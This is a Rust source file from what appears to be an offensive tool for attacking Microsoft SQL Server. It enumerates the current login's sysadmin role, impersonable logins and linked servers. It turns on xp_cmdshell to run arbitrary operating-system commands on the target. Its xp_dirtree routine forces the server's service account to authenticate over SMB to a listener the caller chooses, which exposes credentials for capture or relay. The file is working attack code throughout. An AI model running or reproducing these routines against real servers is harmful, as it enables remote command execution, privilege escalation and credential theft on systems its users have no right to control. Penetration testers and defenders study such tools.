//! Enumeration and execution actions run against the engine's target.

use tracing::info;

use crate::channel::Table;
use crate::engine::Engine;
use crate::error::Result;
use crate::statement::quote;

const IDENTITY_QUERY: &str = "SELECT SYSTEM_USER AS [Login], USER_NAME() AS [User], \
     IS_SRVROLEMEMBER('public') AS [Public], IS_SRVROLEMEMBER('sysadmin') AS [Sysadmin];";

const IMPERSONABLE_QUERY: &str = "SELECT DISTINCT b.name FROM sys.server_permissions a \
     INNER JOIN sys.server_principals b ON a.grantor_principal_id = b.principal_id \
     WHERE a.permission_name = 'IMPERSONATE';";

const LINKED_SERVERS_QUERY: &str = "SELECT name FROM sys.servers WHERE is_linked = 1;";

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Identity {
    pub login: String,
    pub user: String,
    pub public: bool,
    pub sysadmin: bool,
}

pub async fn identity(engine: &mut Engine) -> Result<Identity> {
    let table = engine.execute_rows(IDENTITY_QUERY).await?;
    let text = |column: &str| {
        table
            .get(0, column)
            .map(|c| c.to_string())
            .unwrap_or_default()
    };
    let flag = |column: &str| table.get(0, column).and_then(|c| c.as_i64()) == Some(1);

    Ok(Identity {
        login: text("Login"),
        user: text("User"),
        public: flag("Public"),
        sysadmin: flag("Sysadmin"),
    })
}

/// Logins that grant IMPERSONATE to someone.
pub async fn impersonable_logins(engine: &mut Engine) -> Result<Vec<String>> {
    Ok(engine.execute_rows(IMPERSONABLE_QUERY).await?.first_column())
}

pub async fn linked_servers(engine: &mut Engine) -> Result<Vec<String>> {
    Ok(engine.execute_rows(LINKED_SERVERS_QUERY).await?.first_column())
}

/// Enable xp_cmdshell on the target and run `command`, returning its output
/// lines.
pub async fn exec_command(engine: &mut Engine, command: &str) -> Result<Vec<String>> {
    let target = engine.target().routing_name().to_string();

    info!(%target, "enabling advanced options");
    engine
        .execute_non_query("EXEC sp_configure 'show advanced options', 1; RECONFIGURE;")
        .await?;

    info!(%target, "enabling xp_cmdshell");
    engine
        .execute_non_query("EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;")
        .await?;

    info!(%target, "executing command");
    let output = engine
        .execute_rows(&format!("EXEC xp_cmdshell {};", quote(command)))
        .await?;
    Ok(output
        .rows
        .iter()
        .filter_map(|row| row.first())
        .filter(|cell| !cell.is_null())
        .map(|cell| cell.to_string())
        .collect())
}

/// Make the target's service account authenticate to `listener` over SMB.
pub async fn coerce_auth(engine: &mut Engine, listener: &str) -> Result<()> {
    let share = format!("\\\\{}\\share", listener.trim_start_matches('\\'));
    info!(%share, "requesting directory listing");
    engine
        .execute_non_query(&format!("EXEC master..xp_dirtree {};", quote(&share)))
        .await?;
    Ok(())
}

pub async fn query(engine: &mut Engine, statement: &str) -> Result<Table> {
    engine.execute_rows(statement).await
}
